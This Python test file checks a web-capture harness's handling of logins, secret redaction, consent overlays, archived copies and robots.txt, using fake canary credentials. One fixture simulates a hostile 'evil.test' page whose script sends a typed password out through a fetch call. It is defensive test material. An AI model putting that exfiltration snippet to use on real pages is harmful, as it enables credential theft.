"""Getting to a page: declared steps, secrets and logins, consent and overlays, archived copies, robots.txt."""

from __future__ import annotations

import base64
import gzip
import html
import io
import json
import time
import zipfile
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import pypdfium2 as pdfium
import pytest
from PIL import Image

from harness.capture import layout
from harness.capture.archive import Archive
from harness.capture.engine import capture_all
from harness.capture.secrets import Secrets
from harness.engine.errors import NotCheckedError
from harness.engine.login import kept_states, log_in
from harness.engine.replay import export
from harness.engine.settings import load_settings
from harness.model.place import Place
from harness.model.registry import Source, SourceType
from harness.model.snapshot import Capture, CaptureRequest, CaptureState, Outcome, Step, StepKind
from harness.store.local import LocalStore
from tests.browser.conftest import Answer, Site, stored_in

STORY = (
    "<!doctype html><html lang=en><title>Troops</title><article><h1>Troops</h1>"
    + "<p>The service said on 18 October that 1,500 soldiers had been moved to the east of the country.</p>" * 12
    + "</article>"
)
PASSWORD = "canary-Pa55word-41f7"
SESSION = "canary-session-90ab12cd34ef"
TOKEN = "canary0token77zz11yy"
DATABASE_TOKEN = "canary0database55kk99"


def text_of(capture: Capture) -> str:
    layout = json.loads(capture.artifacts["layout.json"])
    return " ".join(run["text"] for run in layout["runs"] if run.get("visible", True))


def print_of(capture: Capture) -> str:
    with pdfium.PdfDocument(capture.artifacts["print.pdf"]) as document:
        return "".join(page.get_textpage().get_text_range() for page in document).lower()


def _dark() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (300, 40), (3, 3, 90)).save(out, "JPEG")
    return out.getvalue()


def visit(site: Site, url: str, steps: tuple[Step, ...] = (), *, login: bool = False, **more: Any) -> Capture:
    request = CaptureRequest(request_id="r", source="s", url=url, steps=steps, login=login, near=more.pop("near", None))
    return next(iter(capture_all([request], site.settings(**more))))


def step(kind: StepKind, target: str, value: str = "") -> Step:
    return Step(kind=kind, target=target, value=value)


def test_declared_steps_bring_out_what_a_reader_would_see(site: Site) -> None:
    site.pages["/steps"] = (
        STORY
        + """<button onclick="more.hidden=false">Show all</button><p id=more hidden>Eleven thousand in all.</p>
        <input id=q oninput="echo.textContent='You asked for '+q.value"><p id=echo></p>
        <select id=year onchange="table.textContent='Figures of '+year.value"><option>2023<option value=2024>Year 2024</select><p id=table></p>
        <div style="height:3000px"></div><p id=end>end</p><p id=late></p>
        <script>new IntersectionObserver((e) => e[0].isIntersecting && setTimeout(() => late.innerHTML = '<b id=came>Loaded late.</b>', 200)).observe(end)</script>"""
    )
    capture = visit(
        site,
        "http://a.test/steps",
        (
            step(StepKind.CLICK, "text=Show all"),
            step(StepKind.TYPE, "#q", "troops"),
            step(StepKind.CHOOSE, "#year", "Year 2024"),
            step(StepKind.SCROLL_TO, "#end"),
            step(StepKind.WAIT_FOR, "#came"),
        ),
    )
    assert (capture.outcome, capture.reasons) == (Outcome.COMPLETE, ())
    seen = text_of(capture)
    for words in ("Eleven thousand in all.", "You asked for troops", "Figures of 2024", "Loaded late."):
        assert words in seen
    assert [s.state for s in capture.steps if s.name.startswith("step ")] == ["done"] * 5


def test_where_declared_steps_lead_is_no_redirection_but_where_the_address_leads_is(site: Site) -> None:
    form = "<p>Ask the register of the county for a dam, by its name, and see who built it.</p><form action={}><input id=q name=s><button id=go>Go</button></form>"
    site.pages |= {
        "/register/dams": form.format("/"),
        "/sent/dams": "<meta http-equiv=refresh content='0; url=/'>",
        "/": STORY + form.format("/"),
        "/?s=Mill": STORY,
    }
    steps = (step(StepKind.TYPE, "#q", "Mill"), step(StepKind.CLICK, "#go"), step(StepKind.WAIT_FOR, "p"))
    found, sent = (visit(site, f"http://a.test/{path}/dams", steps) for path in ("register", "sent"))
    assert (found.outcome, found.final_url) == (Outcome.COMPLETE, "http://a.test/?s=Mill")
    assert sent.outcome is Outcome.REDIRECTED_HOME


def test_a_step_that_fails_leaves_the_page_partial_and_says_which(site: Site) -> None:
    site.pages["/x"] = STORY
    capture = visit(site, "http://a.test/x", (step(StepKind.CLICK, "text=No such button"),), step_deadline=1.0)
    assert capture.outcome is Outcome.STEP_FAILED
    assert capture.state is CaptureState.PARTIAL
    assert "step 1: click text=No such button" in capture.reasons[0]
    assert "1,500 soldiers" in text_of(capture)


def _guarded(site: Site) -> None:
    """A site with a login form, a session cookie, a token in local storage, and a page that echoes them all."""

    def private(handler: BaseHTTPRequestHandler) -> None:
        known = f"session={SESSION}" in handler.headers.get("Cookie", "")
        form = """<title>Log in</title><p>Log in to continue</p><form action=/enter><input id=user name=user><input id=word type=password name=word>
            <button id=go>Log in</button></form>"""
        body = (
            STORY
            + f"""<p>Your password was {PASSWORD}, your session {SESSION}.</p><img alt="{SESSION}"><input value="{PASSWORD}">
            <script>localStorage.token = "{TOKEN}"; localStorage.theme = "dark";
            indexedDB.open("auth").onupgradeneeded = (e) => e.target.result.createObjectStore("u").put({{token: "{DATABASE_TOKEN}"}}, "k"); console.error("token {TOKEN} {SESSION}");
            document.title = "Troops {SESSION}"; fetch("/api?session={SESSION}", {{headers: {{Authorization: "Bearer {TOKEN}"}}}});</script>"""
            if known
            else form
        ).encode()
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html; charset=utf-8")
        handler.send_header("Content-Length", str(len(body)))
        handler.send_header("X-Echo", handler.headers.get("Cookie", "none"))
        handler.end_headers()
        handler.wfile.write(body)

    def enter(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(302)
        handler.send_header("Location", "/private")
        handler.send_header("Set-Cookie", f"session={SESSION}; Path=/")
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    site.pages["/private"] = private
    site.pages[f"/enter?user=desk&word={PASSWORD}"] = enter
    site.pages[f"/api?session={SESSION}"] = f'{{"token": "{TOKEN}", "word": "{PASSWORD}"}}'


LOGIN_STEPS = (
    step(StepKind.TYPE, "#user", "desk"),
    step(StepKind.TYPE_SECRET, "#word", "SITE_PASSWORD"),
    step(StepKind.CLICK, "#go"),
)


def test_a_secret_is_typed_only_where_it_belongs_and_left_nowhere(site: Site, tmp_path: Path) -> None:
    _guarded(site)
    secrets = Secrets({"SITE_PASSWORD": PASSWORD}, {"SITE_PASSWORD": ("*.test",)})
    capture = visit(site, "http://a.test/private", LOGIN_STEPS, secrets=secrets, settle=True)
    assert (capture.outcome, capture.reasons) == (Outcome.COMPLETE, ())
    assert "1,500 soldiers" in text_of(capture)
    assert capture.redactions > 3
    # The session cookie came in the visit itself; the token in local storage is the page's own, and echoed by it alone.
    LocalStore(tmp_path).put(capture)
    stored = stored_in(tmp_path)
    assert PASSWORD.encode() not in stored
    assert SESSION.encode() not in stored
    other = Secrets({"SITE_PASSWORD": PASSWORD}, {"SITE_PASSWORD": ("b.test",)})
    capture = visit(site, "http://a.test/private", LOGIN_STEPS, secrets=other)
    assert capture.outcome is not Outcome.COMPLETE
    assert any("is not for a.test: it is bound to b.test" in s.detail for s in capture.steps)
    assert f"/enter?user=desk&word={PASSWORD}" not in [asked.partition("/")[2] for asked in site.asked[-3:]]


def test_a_login_is_kept_encrypted_and_leaves_no_trace(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _guarded(site)
    root = tmp_path / "registry"
    (root / "claims").mkdir(parents=True)
    environ = {"HARNESS_LOGINS": str(tmp_path / "logins")}
    settings = load_settings(root)
    place = Place(file="claims/x.yaml", line=1, column=1)
    source = Source(id="s", type=SourceType.WEB, url="http://a.test/private", login=True, place=place)

    def wait() -> None:
        """A person takes a while; the cookie comes with the page that the site sends them to."""
        time.sleep(0.5)

    site.pages["/private-login"] = site.pages[f"/enter?user=desk&word={PASSWORD}"]
    at_login = Source(id="s", type=SourceType.WEB, url="http://a.test/private-login", login=True, place=place)
    path = log_in(settings, at_login, site.settings(), wait, environ, headless=True)
    assert SESSION.encode() not in path.read_bytes()
    assert oct(path.stat().st_mode)[-3:] == "600"
    assert not path.is_relative_to(root)
    states = kept_states(settings, environ)
    assert DATABASE_TOKEN in Secrets(states=states).kept_for("s")
    assert any(c["value"] == SESSION for c in states["s"]["cookies"])
    assert any(item["value"] == TOKEN for origin in states["s"]["origins"] for item in origin["localStorage"])
    capture = visit(site, str(source.url), login=True, secrets=Secrets(states=states))
    assert capture.outcome is Outcome.COMPLETE
    assert "1,500 soldiers" in text_of(capture)
    assert "(left out)" in text_of(capture)
    _assert_clean(tmp_path / "store", capture)
    assert [(s.state, s.detail) for s in capture.steps if s.name == "login"] == [
        ("done", "as whoever logged in by hand")
    ]
    without = visit(site, str(source.url), secrets=Secrets(states=states))
    assert "Log in" in text_of(without)


def _assert_clean(folder: Path, capture: Capture) -> None:
    """The password was never the harness's to know in a login by hand: the session and the token are."""
    LocalStore(folder).put(capture)
    stored = stored_in(folder)
    for canary in (SESSION, TOKEN, DATABASE_TOKEN):
        assert canary not in repr(capture)
        assert canary.encode() not in stored


def test_a_secret_is_never_typed_into_a_field_of_another_host(site: Site) -> None:
    field = "<title>Log in</title><form action=/enter><input id=word name=word {}><button id=go>Log in</button></form>"
    site.pages |= {
        # The field is there and not ready; by the time it would be, the page is another host's.
        "/slow": field.format("disabled") + "<script>setTimeout(() => location = 'http://evil.test/same', 1800)</script>",
        "/moved": lambda h: (h.send_response(302), h.send_header("Location", "http://evil.test/same"), h.send_header("Content-Length", "0"), h.end_headers()),  # type: ignore[func-returns-value]
        "/framed": STORY + "<iframe src='http://evil.test/same'></iframe>",
        "/same": field.format("") + "<script>word.oninput = () => fetch('/stolen?' + word.value)</script>",
    }  # fmt: skip
    secrets = Secrets({"SITE_PASSWORD": PASSWORD}, {"SITE_PASSWORD": ("a.test",)})
    for path in ("slow", "moved", "framed"):
        inside = "iframe >> internal:control=enter-frame >> #word" if path == "framed" else "#word"
        typed = step(StepKind.TYPE_SECRET, inside, "SITE_PASSWORD")
        capture = visit(site, f"http://a.test/{path}", (typed,), secrets=secrets, step_deadline=4.0)
        assert capture.outcome is not Outcome.COMPLETE, path
        assert PASSWORD not in repr(capture)
    assert not [asked for asked in site.asked if PASSWORD in asked]


def test_secrets_stay_nowhere_however_the_page_spells_them(site: Site, tmp_path: Path) -> None:
    word = 'canary Pa55/word&41"f7+ü'
    socket = quote(word, safe="")

    def set_and_forget(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(302)
        handler.send_header("Location", f"/page?word={quote(word, safe='')}&again={quote_plus(word)}")
        handler.send_header("Set-Cookie", f"fleeting={SESSION}; Path=/")
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    def page(handler: BaseHTTPRequestHandler) -> None:
        body = (
            STORY
            + f"""<div style="position:fixed;bottom:0;background:#ccc">We use cookies, {SESSION} <button onclick="this.parentNode.remove()">Reject all</button></div>
            <p id=own></p><p>{html.escape(word)}</p><p>{socket}</p><p>{base64.b64encode(word.encode()).decode()}</p>
            <script>const word = {json.dumps(word)}; document.cookie = "fleeting=; max-age=0"; own.textContent = "You are " + word;
            console.error("x".repeat(490) + word); console.error(JSON.stringify({{word}})); new WebSocket("ws://a.test/" + "y".repeat(1980) + "{socket}");
            fetch("/api", {{method: "POST", body: "z".repeat(99990) + word}}); fetch("http://127.0.0.1:1/" + "w".repeat(280) + encodeURIComponent(word)).catch(() => 0);
            document.body.attachShadow; const d = document.body.appendChild(document.createElement("div")); d.attachShadow({{mode: "closed"}}).textContent = word;</script>"""
        ).encode()
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html; charset=utf-8")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    site.pages["/start"] = set_and_forget
    site.pages[f"/page?word={quote(word, safe='')}&again={quote_plus(word)}"] = page
    site.pages["/api"] = "{}"
    secrets = Secrets({"SITE_PASSWORD": word}, {"SITE_PASSWORD": ("a.test",)})
    site.pages["/form"] = (
        "<title>Log in</title><input id=word type=password><button id=go onclick=\"location='/start'\">Log in</button>"
    )
    steps = (step(StepKind.TYPE_SECRET, "#word", "SITE_PASSWORD"), step(StepKind.CLICK, "#go"))
    capture = visit(site, "http://a.test/form", steps, secrets=secrets)
    assert (capture.outcome, capture.reasons) == (Outcome.COMPLETE, ())
    assert "You are (left out)" in text_of(capture)
    store = LocalStore(tmp_path / "store")
    export(store, store.put(capture), tmp_path / "page.wacz")
    with zipfile.ZipFile(tmp_path / "page.wacz") as opened:
        packed = b"".join(opened.read(name) for name in opened.namelist())
        records = gzip.decompress(opened.read("archive/data.warc.gz"))
    stored = stored_in(tmp_path / "store")
    spelled = [
        word,
        socket,
        quote_plus(word),
        json.dumps(word)[1:-1],
        html.escape(word),
        base64.b64encode(word.encode()).decode()[:-4],
        SESSION,
    ]
    for data in (packed, records, stored, repr(capture).encode()):
        assert not [s for s in spelled if s.encode() in data]
        # Nor the beginning of one, where long words are cut.
        assert b"canary" not in data.replace(b"canary.test", b"")


def _visited_as_somebody(site: Site, path: str, **more: Any) -> Capture:
    states = {
        "s": {
            "cookies": [{"name": "session", "value": SESSION, "domain": "a.test", "path": "/"}],
            "origins": [{"origin": "http://a.test", "localStorage": [{"name": "t", "value": TOKEN}]}],
        }
    }
    return visit(site, f"http://a.test/{path}", login=True, secrets=Secrets(states=states), **more)


def _answer(body: str | bytes, media_type: str = "text/html", status: int = 200, **headers: str) -> Answer:
    data = body.encode() if isinstance(body, str) else body

    def send(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(status)
        for name, value in {"Content-Type": media_type, "Content-Length": str(len(data)), **headers}.items():
            handler.send_header(name, value)
        handler.end_headers()
        handler.wfile.write(data)

    return send


def test_a_visit_that_ends_early_or_in_a_file_leaves_no_secret_either(site: Site, tmp_path: Path) -> None:
    busy = f"<script>console.error('x {SESSION}'); setTimeout(() => {{ for (;;) {{}} }}, 200)</script>"
    site.pages |= {
        "/busy": _answer("", status=302, Location=f"/hop?{SESSION}"),
        f"/hop?{SESSION}": _answer(STORY + busy, **{"X-Echo": SESSION, "Set-Cookie": "later=canary-later-5566"}),
        "/pdf": _answer("", status=302, Location=f"/x.pdf?token={TOKEN}"),
        f"/x.pdf?token={TOKEN}": _answer(b"%PDF-1.4\nbroken " + SESSION.encode(), "application/pdf"),
        "/file": _answer("", status=302, Location=f"/x.bin?token={TOKEN}"),
        f"/x.bin?token={TOKEN}": _answer(b"\0\1" + SESSION.encode(), "application/octet-stream"),
        "/svg": _answer(
            f"<svg xmlns='http://www.w3.org/2000/svg'><text y='40'>{SESSION}</text></svg>", "image/svg+xml"
        ),
        "/style": STORY
        + f"<script>const s = new CSSStyleSheet(); s.replaceSync('h1::after{{content:\"{SESSION}\"}}'); document.adoptedStyleSheets = [s]</script>",
    }
    for path in ("busy", "pdf", "file", "svg", "style"):
        capture = _visited_as_somebody(site, path, page_deadline=8.0, call_deadline=4.0)
        assert (path, capture.outcome is Outcome.TIMED_OUT) == (path, path == "busy")
        assert "exchanges.json.gz" in capture.artifacts
        _assert_clean(tmp_path / path, capture)
        if path == "style":
            assert "(left out)" in text_of(capture)


def test_tokens_that_a_login_brings_are_secrets_of_the_visit(site: Site, tmp_path: Path) -> None:
    site.pages |= {
        "/login": """<title>Log in</title><h1>Log in</h1><input id=word type=password><button id=go onclick="
            fetch('/auth', {method: 'POST', body: word.value}).then((r) => r.json())
            .then((t) => { sessionStorage.t = t.access_token; return fetch('/data', {headers: {'X-Auth-Token': t.header, Authorization: 'Bearer ' + t.access_token}}) })
            .then((r) => r.text()).then((t) => { document.body.innerHTML = t })">Log in</button>""",
        "/auth": _answer(
            json.dumps({"access_token": TOKEN, "header": "canary-h-1122334455", "refreshToken": "canary-r-99887766"}),
            "application/json",
        ),
        "/data": STORY.partition("</title>")[2] + f"<p>You are {TOKEN}.</p>",
    }
    secrets = Secrets({"SITE_PASSWORD": PASSWORD}, {"SITE_PASSWORD": ("a.test",)})
    steps = (step(StepKind.TYPE_SECRET, "#word", "SITE_PASSWORD"), step(StepKind.CLICK, "#go"))
    capture = visit(site, "http://a.test/login", steps, secrets=secrets)
    assert capture.outcome is Outcome.COMPLETE
    assert "You are (left out)." in text_of(capture)
    LocalStore(tmp_path).put(capture)
    stored = stored_in(tmp_path)
    for canary in (PASSWORD, TOKEN, "canary-h-1122334455", "canary-r-99887766"):
        assert canary.encode() not in stored


def test_what_is_called_a_token_is_one_wherever_it_stands(site: Site, tmp_path: Path) -> None:
    named = {n: f"canary-{n}-1a2b3c4d" for n in ("query", "fragment", "ticket", "form", "meta", "field", "header")}
    page = (
        STORY
        + f"<meta name=csrf-token content={named['meta']}><input type=hidden value='{named['field']}' name=csrfmiddlewaretoken>"
        + "<p>You are canary-query-1a2b3c4d.</p>"
        + f"<script>fetch('/data', {{method: 'POST', body: new URLSearchParams({{auth_token: '{named['form']}'}}), headers: {{'X-CSRFToken': '{named['header']}'}}}})</script>"
    )
    site.pages |= {
        "/in": _answer("", status=302, Location=f"/in?ticket={named['ticket']}"),
        f"/in?ticket={named['ticket']}": _answer("", status=302, Location=f"/page?access_token={named['query']}#id_token={named['fragment']}"),
        f"/page?access_token={named['query']}": page,
        "/data": _answer("{}", "application/json"),
    }  # fmt: skip
    capture = _visited_as_somebody(site, "in")
    assert capture.outcome is Outcome.COMPLETE
    assert "You are (left out)." in text_of(capture)
    LocalStore(tmp_path).put(capture)
    stored = stored_in(tmp_path)
    assert [value for value in named.values() if value.encode() in stored or value in repr(capture)] == []
    # Who logs in nowhere is told what stands there, as anybody is.
    assert "You are canary-query-1a2b3c4d." in text_of(visit(site, "http://a.test/in"))


def test_a_secret_that_could_not_be_kept_out_is_used_nowhere(site: Site) -> None:
    site.pages |= {"/form": STORY + "<input id=word type=password oninput='fetch(`/typed?` + this.value)'>"}
    short = Secrets({"PIN": "123"}, {"PIN": ("a.test",)})
    capture = visit(site, "http://a.test/form", (step(StepKind.TYPE_SECRET, "#word", "PIN"),), secrets=short)
    assert any("fewer than 4 characters" in s.detail for s in capture.steps)
    assert not [asked for asked in site.asked if "typed" in asked]
    capture = visit(site, f"http://desk:{PASSWORD}@a.test/form")
    assert capture.outcome is Outcome.REFUSED
    assert "harness login" in capture.reasons[0]


def test_the_picture_before_a_banner_is_left_out_when_it_shows_a_session(site: Site) -> None:
    banner = "<div style='position:fixed;bottom:0;background:#ccc'>We use cookies <button onclick='this.parentNode.remove()'>Reject all</button></div>"
    site.pages |= {"/shown": STORY + f"<p>{SESSION}</p>" + banner, "/plain": STORY + banner}
    states = {"s": {"cookies": [{"name": "session", "value": SESSION, "domain": "a.test", "path": "/"}], "origins": []}}
    shown, plain = (
        visit(site, f"http://a.test/{p}", login=True, secrets=Secrets(states=states)) for p in ("shown", "plain")
    )
    assert "before.jpg" not in shown.artifacts
    assert any(s.name == "before" and s.state == "skipped" for s in shown.steps)
    assert "before.jpg" in plain.artifacts


def test_consent_is_refused_and_overlays_go_but_walls_stay(site: Site) -> None:
    onetrust = """<div id="onetrust-consent-sdk"><div id="onetrust-banner-sdk" style="position:fixed;bottom:0;left:0;right:0;background:#ccc">
      <p>We use cookies</p><button id="onetrust-accept-btn-handler" onclick="document.title='accepted'">Accept All</button>
      <button id="onetrust-reject-all-handler" onclick="document.getElementById('onetrust-consent-sdk').remove();document.title='refused'">Reject All</button></div></div>"""
    site.pages |= {
        "/onetrust": STORY + onetrust,
        "/plain": STORY
        + "<div style='position:fixed;bottom:0;background:#ccc'>We use cookies <button onclick='document.title=\"refused\";this.parentNode.remove()'>Nur notwendige</button></div>",
        "/news": STORY
        + "<div id=news style='position:fixed;inset:20% 20%;background:#ccc;z-index:9'>Subscribe to our newsletter <input></div>",
        "/wall": STORY[:400]
        + "<div style='position:fixed;inset:20% 20%;background:#ccc;z-index:9'>Subscribe to continue reading</div>",
        "/none": STORY
        + "<header style='position:fixed;top:0;left:0;right:0;height:50px;background:#eee'>The Site</header>",
    }
    one, plain, news, wall, none = site.capture(
        *(f"http://a.test/{p}" for p in ("onetrust", "plain", "news", "wall", "none")), per_host=4
    )
    assert one.title == plain.title == "refused"
    assert "before.jpg" in one.artifacts
    assert "We use cookies" not in text_of(one)
    assert "newsletter" not in text_of(news)
    assert "before.jpg" in news.artifacts
    assert wall.outcome is Outcome.PAYWALL
    assert "Subscribe to continue reading" in text_of(wall)
    assert "The Site" in text_of(none)
    assert "before.jpg" not in none.artifacts


def test_a_layer_without_which_a_page_shows_nothing_stays_to_be_seen(site: Site) -> None:
    over = "position:fixed;inset:0;background:#fff;z-index:9"
    asks = "<h2>We value your privacy</h2><p>Accept the cookies of our partners to enter this site.</p><button>Accept</button>"
    framed = f"<div style='{over}'><iframe width=800 height=500 title='Consent' srcdoc='{asks}'></iframe></div>"
    hidden = "<style>main{display:none}</style><main>" + STORY + "</main>"
    site.pages |= {
        "/framed": "<!doctype html><title>Troops</title>" + framed,
        "/hidden": hidden + f"<div id=onetrust-banner-sdk class=cookie style='{over}'>{asks}</div>",
        "/picture": f"<!doctype html><title>P</title><img width=900 height=700 src='data:image/gif;base64,R0lGODlhAQABAAAAACw='><div class=cookie style='{over}'>{asks}</div>",
        "/shown": STORY + f"<div class=cookie style='{over}'>{asks}</div>",
        "/frame-left": f"<header><nav>Home News Sport</nav></header>{hidden}<div class=cookie style='{over}'>{asks}</div><footer>Terms of use</footer>",
    }
    names = ("framed", "hidden", "picture", "shown", "frame-left")
    found = dict(zip(names, site.capture(*(f"http://a.test/{n}" for n in names), per_host=2), strict=True))
    for name in ("framed", "hidden", "frame-left"):
        assert found[name].outcome is Outcome.CONSENT_WALL, (name, found[name].outcome, found[name].reasons)
    assert "We value your privacy" in text_of(found["framed"])
    assert "We value your privacy" in text_of(found["hidden"])
    assert "We value your privacy" not in text_of(found["picture"])
    assert found["shown"].outcome is Outcome.COMPLETE
    assert "We value your privacy" not in text_of(found["shown"])


def test_a_page_that_is_gone_brings_the_archived_copy_nearest_its_date(site: Site) -> None:
    def gate(handler: BaseHTTPRequestHandler) -> None:
        asked = handler.headers.get("Accept-Datetime", "")
        made = "20241019" if "19 Oct 2024" in asked else "20250101"
        handler.send_response(302)
        handler.send_header("Vary", "accept-datetime")
        handler.send_header("Location", f"http://archive.test/{made}/http://a.test/gone")
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    def copy(handler: BaseHTTPRequestHandler) -> None:
        body = STORY.encode()
        handler.send_response(200)
        handler.send_header("Memento-Datetime", "Sat, 19 Oct 2024 06:00:00 GMT")
        handler.send_header("Content-Type", "text/html; charset=utf-8")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    site.pages["/gate/http://a.test/gone"] = gate
    site.pages["/20241019/http://a.test/gone"] = copy
    request = CaptureRequest(request_id="r", source="s", url="http://a.test/gone", near="2024-10-19")
    archives = (Archive("The archive", "http://archive.test/gate/"),)
    live, archived = capture_all([request], site.settings(archives=archives))
    assert live.outcome is Outcome.GONE
    assert live.archived is not None
    assert (live.archived.archive, live.archived.made) == ("The archive", "2024-10-19T06:00:00Z")
    assert archived.request.archived == live.archived
    assert archived.outcome is Outcome.COMPLETE
    assert archived.request.url == "http://archive.test/20241019/http://a.test/gone"
    assert "1,500 soldiers" in text_of(archived)


def test_a_copy_of_an_error_is_no_copy_of_the_page(site: Site) -> None:
    lost = (
        "<!doctype html><title>404 not found</title><h1>Page not found</h1><p>Sorry, the page could not be found.</p>"
    )
    site.pages["/gate/http://a.test/gone"] = _answer(lost, **{"Memento-Datetime": "Sat, 19 Oct 2024 06:00:00 GMT", "Content-Location": "/copy"})  # fmt: skip
    site.pages["/copy"] = _answer(lost, **{"Memento-Datetime": "Sat, 19 Oct 2024 06:00:00 GMT"})
    request = CaptureRequest(request_id="r", source="s", url="http://a.test/gone", near="2024-10-19")
    live, archived = capture_all(
        [request], site.settings(archives=(Archive("The archive", "http://archive.test/gate/"),))
    )
    assert (live.outcome, live.archived) == (Outcome.GONE, None)
    assert "the archived copy of 2024-10-19 (The archive) shows no page either: soft 404" in live.reasons
    assert archived.outcome is Outcome.SOFT_404


def test_robots_txt_is_obeyed_when_the_settings_say_so(site: Site) -> None:
    def robots(handler: BaseHTTPRequestHandler) -> None:
        body = b"User-agent: harness\nDisallow: /private\n"
        handler.send_response(200)
        handler.send_header("Content-Type", "text/plain")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    site.pages |= {"/robots.txt": robots, "/private/x": STORY, "/open": STORY}
    closed, open_ = site.capture("http://a.test/private/x", "http://a.test/open", robots=True)
    assert (closed.outcome, closed.state) == (Outcome.ROBOTS, CaptureState.FAILED)
    assert open_.outcome is Outcome.COMPLETE
    assert not any(asked.endswith("/private/x") for asked in site.asked)
    (ignored,) = site.capture("http://a.test/private/x")
    assert ignored.outcome is Outcome.COMPLETE


def test_a_host_that_asks_for_patience_is_left_alone_by_all_of_its_pages(site: Site) -> None:
    asked: dict[str, list[float]] = {"busy": [], "next": []}

    def busy(handler: BaseHTTPRequestHandler) -> None:
        asked["busy"].append(time.monotonic())
        if len(asked["busy"]) == 1:
            _answer(STORY, status=429, **{"Retry-After": "3"})(handler)
        else:
            _answer(STORY)(handler)

    def following(handler: BaseHTTPRequestHandler) -> None:
        asked["next"].append(time.monotonic())
        _answer(STORY)(handler)

    site.pages |= {"/busy": busy, "/next": following}
    captures = site.capture("http://a.test/busy", "http://a.test/next", per_host=1, attempts=2)
    assert {capture.outcome for capture in captures} == {Outcome.COMPLETE}
    assert [len(asked["busy"]), len(asked["next"])] == [2, 1]
    assert min(asked["busy"][1], asked["next"][0]) - asked["busy"][0] >= 3


def test_a_page_without_trouble_leaves_one_snapshot(site: Site) -> None:
    site.pages["/x"] = STORY
    archives = (Archive("The archive", "http://archive.test/gate/"),)
    request = CaptureRequest(request_id="r", source="s", url="http://a.test/x", near="2024-10-19")
    (capture,) = capture_all([request], site.settings(archives=archives))
    assert capture.archived is None


def test_why_there_is_no_archived_copy_is_said(site: Site) -> None:
    site.pages["/gone"] = _answer("<p>gone", status=410)
    archives = (Archive("The archive", "http://archive.test/gate/{url}"),)
    request = CaptureRequest(request_id="r", source="s", url="http://a.test/gone", near="2024-10-19")
    (capture,) = capture_all([request], site.settings(archives=archives))
    assert (capture.outcome, capture.archived) == (Outcome.GONE, None)
    assert "no archived copy at The archive: answered 404" in capture.reasons


def test_a_secret_is_not_shown_in_whatever_manner_a_page_draws_it(site: Site, tmp_path: Path) -> None:
    word, card = PASSWORD, "4929123412341239"

    def drawing(said: str) -> str:
        return (
            f"<svg xmlns='http://www.w3.org/2000/svg' width='300' height='40'><text y='30'>{said} {word}</text></svg>"
        )

    inside = base64.b64encode(drawing("inside").encode()).decode()
    site.pages |= {
        "/drawn.svg": _answer(drawing("sent"), "image/svg+xml"),
        f"/dark.jpg?token={word}": _answer(_dark(), "image/jpeg"),
        f"/frame?token={word}": "<p>The frame has 1,214 words.</p>",
        "/x": f"""<!doctype html><title>T</title><body style="margin:0"><input id=word type=password><input id=card>
            <style>div{{position:absolute;width:300px;height:40px;left:0}}</style>{STORY}
            <p>{word.upper()} <b>canary-</b>Pa55<i>word</i>-41f7 {"".join(f"<span style='display:inline-block'>{c}</span>" for c in word)}
            {card[:4]} {card[4:8]} {card[8:12]} {card[12:]} {"&shy;".join(word)}</p>
            <p id=parts>{"".join(f"<input maxlength=1 size=1 value='{c}'>" for c in word)}</p><select><option>{word}</select>
            <p id=var></p><p id=nested></p><section id=host></section><iframe src="/frame?token={word}"></iframe>
            <div style="top:2000px"><img src="data:image/svg+xml;base64,{inside}"></div><div style="top:2100px"><img src="/drawn.svg"></div>
            <div style="top:2200px"><img id=made></div><div style="top:2300px"><canvas id=whole width=300 height=40></canvas></div>
            <div style="top:2400px"><canvas id=letters width=300 height=40></canvas></div><div style="top:2500px"><canvas id=copy width=300 height=40></canvas></div>
            <div style="top:2600px;background:url(/drawn.svg)"></div><div style="top:2700px"><img src="/dark.jpg?token={word}" width=300 height=40></div>
            <div style="top:2800px"><canvas id=chart width=300 height=40></canvas></div>
            <script>
            const sheet = document.head.appendChild(document.createElement("style")).sheet;
            sheet.insertRule('#var::after{{content:var(--x)}}'); sheet.insertRule(':root{{--x:"{word}"}}');
            sheet.insertRule('@media screen {{ #nested::after{{content:"{word}"}} }}');
            const inner = new CSSStyleSheet(); inner.replaceSync('p::after{{content:"{word}"}}');
            const tree = host.attachShadow({{mode: "open"}}); tree.innerHTML = "<p></p>"; tree.adoptedStyleSheets = [inner];
            made.src = URL.createObjectURL(new Blob([`{drawing("made")}`], {{type: "image/svg+xml"}}));
            const pen = (id) => {{ const c = document.getElementById(id).getContext("2d"); c.font = "20px sans-serif"; return c; }};
            pen("whole").fillText("for {word}", 0, 30); [..."{word}"].forEach((c, n) => pen("letters").strokeText(c, 12 * n, 30));
            pen("copy").drawImage(whole, 0, 0); pen("chart").fillText("1,214 troops", 0, 30);
            </script>""",
    }
    secrets = Secrets({"WORD": word, "CARD": card}, {"WORD": ("a.test",), "CARD": ("a.test",)})
    steps = (step(StepKind.TYPE_SECRET, "#word", "WORD"), step(StepKind.TYPE_SECRET, "#card", "CARD"))
    capture = visit(site, "http://a.test/x", steps, secrets=secrets, print_pdf=True)
    assert (capture.outcome, capture.reasons) == (Outcome.COMPLETE, ())
    with Image.open(io.BytesIO(capture.artifacts["screenshot.png"])) as picture:
        pieces = {y: picture.crop((0, y, 300, y + 40)).convert("L").getextrema() for y in range(2000, 2900, 100)}
    greyed = dict.fromkeys(range(2000, 2600, 100), (136, 136))
    assert {y: pieces[y] for y in greyed} == greyed
    assert pieces[2600] == (255, 255)
    # What a token was sent for is a picture like any other, and so is a frame.
    assert max(pieces[2700]) < 60
    assert pieces[2800][0] < 100 < pieces[2800][1]
    assert "1,214 words" in text_of(capture)
    assert "canary" not in text_of(capture).lower()
    (said,) = (s for s in capture.steps if s.name == "secrets")
